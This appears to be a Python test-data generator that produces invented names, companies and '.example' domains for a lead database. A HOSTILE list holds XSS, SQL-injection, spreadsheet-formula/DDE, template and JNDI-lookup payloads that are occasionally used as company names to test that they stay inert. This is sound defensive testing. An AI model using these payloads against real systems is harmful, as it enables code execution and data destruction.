"""Invented people, companies and places. Any likeness is an accident; every domain is under `.example`."""

from __future__ import annotations

import random
import unicodedata

FIRST = [
    "Ada", "Aiko", "Alba", "Amir", "Ana", "Anders", "Anja", "Asha", "Ben", "Bianca", "Carlos", "Chiara", "Clara",
    "Dana", "David", "Dorota", "Elif", "Elena", "Emil", "Emma", "Erik", "Farah", "Felix", "Fiona", "Freya", "Gabriel",
    "Greta", "Hana", "Hugo", "Ida", "Igor", "Ines", "Ivan", "Jana", "Jonas", "Julia", "Kai", "Karim", "Lars", "Lea",
    "Leo", "Lina", "Luca", "Lucía", "Magda", "Maja", "Marek", "Marta", "Mateo", "Maya", "Mia", "Milan", "Mina", "Nadia",
    "Nils", "Noah", "Nora", "Ola", "Olga", "Omar", "Oskar", "Paula", "Pavel", "Petra", "Priya", "Rafael", "Rosa",
    "Ryan", "Samir", "Sara", "Sofia", "Søren", "Stefan", "Tara", "Theo", "Tomás", "Ulla", "Vera", "Viktor", "Yara",
    "Yuki", "Zoë",
]  # fmt: skip
LAST = [
    "Abadi", "Almeida", "Bauer", "Becker", "Berg", "Bianchi", "Blom", "Brandt", "Castro", "Chen", "Costa", "Dahl",
    "Dubois", "Eriksen", "Evans", "Fischer", "Fontaine", "Garcia", "Grant", "Haddad", "Hansen", "Hoffmann", "Horvat",
    "Ito", "Ivanova", "Jansen", "Kaya", "Keller", "Khan", "Kowalska", "Kraus", "Larsen", "Lindqvist", "Lopez", "Marek",
    "Martin", "Meier", "Moreau", "Müller", "Nakamura", "Navarro", "Nguyen", "Novak", "Nowak", "Okafor", "O'Brien",
    "Olsen", "Patel", "Peters", "Popescu", "Quinn", "Ricci", "Rossi", "Roux", "Ruiz", "Sato", "Schmidt", "Silva",
    "Singh", "Smith", "Sørensen", "Taylor", "Tanaka", "Vogel", "Walker", "Weber", "Wójcik", "Yilmaz", "Young", "Zhang",
    "Zimmer",
]  # fmt: skip
COMPANY_A = [
    "Alder", "Amber", "Arbor", "Atlas", "Auric", "Basalt", "Birch", "Blue", "Bright", "Cedar", "Cobalt", "Copper",
    "Coral", "Crown", "Delta", "Ember", "Fern", "Field", "Flint", "Granite", "Harbor", "Hazel", "Iron", "Juniper",
    "Lumen", "Maple", "Meridian", "Mist", "Nimbus", "North", "Oak", "Onyx", "Opal", "Orchard", "Pine", "Polar",
    "Quarry", "Quartz", "Raven", "Ridge", "River", "Sable", "Silver", "Slate", "Solar", "Stone", "Summit", "Tidal",
    "Umber", "Vale", "Willow", "Zephyr",
]  # fmt: skip
COMPANY_B = [
    "Analytics", "Automation", "Biotech", "Capital", "Care", "Chemicals", "Cloud", "Components", "Controls", "Dynamics",
    "Electric", "Energy", "Engineering", "Foods", "Shipping", "Health", "Instruments", "Labs", "Logistics",
    "Manufacturing", "Materials", "Mobility", "Networks", "Optics", "Packaging", "Payments", "Pharma", "Power",
    "Precision", "Robotics", "Security", "Software", "Steel", "Systems", "Textiles", "Tooling", "Transport", "Ventures",
    "Water", "Works",
]  # fmt: skip
INDUSTRIES = ["Manufacturing", "Technology", "Healthcare", "Transportation", "Energy", "Finance", "Retail"]
# country, region, currency, dialling code, weight
COUNTRIES = [
    ("Germany", "EMEA", "EUR", "+49", 26),
    ("France", "EMEA", "EUR", "+33", 12),
    ("Netherlands", "EMEA", "EUR", "+31", 8),
    ("Spain", "EMEA", "EUR", "+34", 6),
    ("United Kingdom", "EMEA", "GBP", "+44", 14),
    ("United States", "AMER", "USD", "+1", 26),
    ("Canada", "AMER", "USD", "+1", 5),
    ("Japan", "APAC", "USD", "+81", 3),
]
# Names that must be inert wherever they end up.
HOSTILE = [
    "<script>alert('lead')</script>",
    "Robert'); DROP TABLE lead;--",
    '=HYPERLINK("https://phish.example","open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "👩‍💻 Zoë 🚀",
    "عميل‏ تجريبي",
    "Łukasz\u0000Nul",
    "{{7*7}}${jndi:ldap://x.example}",
    'Semi;colon, "quote" and\nnewline',
]
USERS = [
    ("Mara", "Lindholm"),
    ("Jonas", "Adeyemi"),
    ("Claire", "Oduya"),
    ("Tomasz", "Brandt"),
    ("Nadia", "Fournier"),
    ("Integration", "User"),
]


def ascii_slug(text: str) -> str:
    plain = unicodedata.normalize("NFKD", text.replace("ø", "o").replace("Ø", "O").replace("ł", "l"))
    return "".join(c for c in plain.lower() if c.isascii() and c.isalnum())


def company(rng: random.Random, number: int) -> tuple[str, str]:
    """A company's name and its domain, unique by the number."""
    a, b = rng.choice(COMPANY_A), rng.choice(COMPANY_B)
    form = rng.choice(["GmbH", "Inc.", "Ltd", "S.A.", "BV"])
    name = rng.choice(HOSTILE) if rng.random() < 0.003 else f"{a} {b} {form}"
    return name, f"{a}-{b}-{number}.example".lower()
